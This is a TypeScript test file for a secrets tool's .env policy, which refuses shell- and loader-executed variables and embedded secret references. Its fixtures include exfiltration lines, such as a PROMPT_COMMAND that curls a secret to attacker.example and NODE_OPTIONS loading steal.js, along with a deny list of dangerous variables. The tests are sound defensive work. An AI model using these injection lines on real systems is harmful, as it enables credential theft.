// Issue 11 #1: a workspace `.env` must not run code with keychain secrets. Only KEY=<one reference>
// lines are resolved; variables that a shell or loader executes are refused, by name, both in the
// editor's secrets terminal (shared plan) and in `token-custody run --env-file`.
import { describe, it } from 'node:test';
import assert from 'node:assert/strict';
import { existsSync, mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { runWithSecrets } from '../../../src/cli/run';
import { describeRefusals, isDangerousVariable, planDotenv } from '../../../src/vault/envPolicy';
import { MemoryBackend, fakeToken } from './fake-backend';
import { captureIo } from './cli-support';

const REF = 'keychain://token-custody/GITHUB_TOKEN';

void describe('issue 11 #1: .env plan for secrets', () => {
  void it('refuses executed variables and references inside longer values, naming them', () => {
    const text = [
      `GITHUB_TOKEN=${REF}`,
      `PROMPT_COMMAND=curl -d @- https://attacker.example/c <<< ${REF}`,
      `BASH_ENV=${REF}`,
      `NODE_OPTIONS=--require ./x.js ${REF}`,
      `DB_URL=postgres://app:${REF}@db/app`,
      'DEBUG=1',
    ].join('\n');
    const plan = planDotenv(text, { applyPlain: false });
    assert.deepEqual(plan.secrets.map((s) => [s.variable, s.reference.name, s.line]), [['GITHUB_TOKEN', 'GITHUB_TOKEN', 1]]);
    assert.deepEqual(plan.refused.map((r) => [r.variable, r.reason]), [
      ['PROMPT_COMMAND', 'dangerous'], ['BASH_ENV', 'dangerous'], ['NODE_OPTIONS', 'dangerous'], ['DB_URL', 'embedded'],
    ]);
    const msg = describeRefusals(plan.refused, '.env');
    for (const v of ['PROMPT_COMMAND', 'BASH_ENV', 'NODE_OPTIONS', 'DB_URL']) assert.ok(msg.includes(v), `${v} named: ${msg}`);
    assert.ok(!msg.includes('attacker'), 'no value in the message');
  });

  void it('knows the variables shells, loaders and tools execute', () => {
    for (const v of ['PROMPT_COMMAND', 'BASH_ENV', 'ENV', 'ZDOTDIR', 'PATH', 'Path', 'LD_PRELOAD', 'LD_LIBRARY_PATH', 'DYLD_INSERT_LIBRARIES',
      'NODE_OPTIONS', 'GIT_SSH_COMMAND', 'GIT_ASKPASS', 'GIT_EXEC_PATH', 'GIT_CONFIG_PARAMETERS', 'FZF_DEFAULT_COMMAND', 'PS1', 'PS4', 'SHELLOPTS',
      'PERL5OPT', 'PYTHONSTARTUP', 'RUBYOPT', 'JAVA_TOOL_OPTIONS', 'HTTPS_PROXY', 'https_proxy', 'BASH_FUNC_ls%%', 'EDITOR', 'HOME']) {
      assert.equal(isDangerousVariable(v), true, v);
    }
    for (const v of ['GITHUB_TOKEN', 'NPM_TOKEN', 'NODE_ENV', 'DATABASE_URL', 'AWS_SECRET_ACCESS_KEY', 'DEBUG']) assert.equal(isDangerousVariable(v), false, v);
  });

  void it('the terminal plan ignores plain lines; the run plan refuses dangerous plain lines too', () => {
    const text = 'PATH=/tmp/evil:/usr/bin\nNODE_ENV=production\nA=keychain://token-custody/A\n';
    const terminal = planDotenv(text, { applyPlain: false });
    assert.deepEqual(terminal.refused, []);
    assert.deepEqual(terminal.plain, []);
    const run = planDotenv(text, { applyPlain: true });
    assert.deepEqual(run.refused.map((r) => r.variable), ['PATH']);
    assert.deepEqual(run.plain.map((e) => e.key), ['NODE_ENV']);
  });
});

void describe('issue 11 #1: token-custody run --env-file follows the same rules', () => {
  void it('a PROMPT_COMMAND/NODE_OPTIONS env file: exit 2, variables named, nothing run, no secret read', async () => {
    const dir = mkdtempSync(join(tmpdir(), 'tc-run-'));
    try {
      const backend = new MemoryBackend();
      const tok = fakeToken();
      backend.store.set('GITHUB_TOKEN', tok);
      writeFileSync(join(dir, '.env'), `GITHUB_TOKEN=${REF}\nNODE_OPTIONS=--require ./steal.js\nPROMPT_COMMAND=echo ${REF}\n`);
      const marker = join(dir, 'ran');
      const io = captureIo({ backend, cwd: dir, env: {} });
      const code = await runWithSecrets(['--env-file', '.env', '--', process.execPath, '-e', `require('fs').writeFileSync(${JSON.stringify(marker)}, 'x')`], io);
      assert.equal(code, 2);
      assert.ok(!existsSync(marker), 'nothing ran');
      assert.match(io.err(), /NODE_OPTIONS \(line 2\)/);
      assert.match(io.err(), /PROMPT_COMMAND \(line 3\)/);
      assert.match(io.err(), /Nothing was run/);
      assert.ok(!backend.calls.some((c) => c.startsWith('get ')), 'no secret was read');
      assert.ok(!io.err().includes(tok));
    } finally {
      rmSync(dir, { recursive: true, force: true });
    }
  });

  void it('a reference inside a longer value in an env file is refused', async () => {
    const dir = mkdtempSync(join(tmpdir(), 'tc-run-'));
    try {
      const backend = new MemoryBackend();
      backend.store.set('GITHUB_TOKEN', fakeToken());
      writeFileSync(join(dir, '.env'), `CURL_ARGS=-H x -d ${REF} https://attacker.example\n`);
      const io = captureIo({ backend, cwd: dir, env: {} });
      assert.equal(await runWithSecrets(['--env-file', '.env', '--', process.execPath, '-e', ''], io), 2);
      assert.match(io.err(), /CURL_ARGS \(line 1\)[^]*reference alone/);
    } finally {
      rmSync(dir, { recursive: true, force: true });
    }
  });
});
